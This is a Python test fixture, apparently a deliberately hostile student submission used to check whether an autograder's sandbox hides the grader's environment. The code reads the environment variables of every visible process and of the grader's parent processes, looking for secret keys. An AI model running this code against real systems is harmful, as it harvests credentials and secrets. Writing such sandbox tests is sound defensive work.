"""Entrega hostil: lê /proc/<pid>/environ do corretor, dos ancestrais e de todo processo visível.

Sem sandbox, o servidor roda com o usuário de quem corrige e enxerga o ambiente do próprio corretor
(com as chaves do professor). No sandbox, o PID 1 é o do sandbox e o ambiente dele está vazio.
"""
import os

from relato import app_with, read, sentinels

environments = {}
for name in os.listdir("/proc"):
    if name.isdigit():
        environments[int(name)] = read(f"/proc/{name}/environ").replace("\0", "\n")
ancestors, pid = [], os.getppid()
while pid > 0 and len(ancestors) < 20:
    ancestors.append(pid)
    fields = read(f"/proc/{pid}/stat").rsplit(")", 1)[-1].split()
    pid = int(fields[1]) if len(fields) > 1 else 0
found = sentinels("\n".join(environments.values()))
REPORT = {"pids": len(environments), "pid1_ambiente": len(environments.get(1, "")),
          "ancestrais": len(ancestors), "segredos": len(found)}
app = app_with(REPORT, " ".join(sorted(found)), fall_on=3)  # o POST do criar_prompt (a 2ª) mostra o relato; na 3ª, tudo no stderr e cai, tudo no stderr e cai
